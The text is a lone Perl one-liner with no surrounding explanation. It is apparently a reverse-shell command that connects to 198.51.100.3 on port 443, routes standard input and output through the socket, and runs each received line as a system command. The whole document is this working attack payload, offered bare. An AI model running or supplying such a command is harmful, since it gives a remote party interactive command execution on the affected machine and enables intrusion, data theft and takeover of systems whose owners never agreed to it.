perl -MIO::Socket -e '$c=new IO::Socket::INET(PeerAddr,"198.51.100.3:443");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'
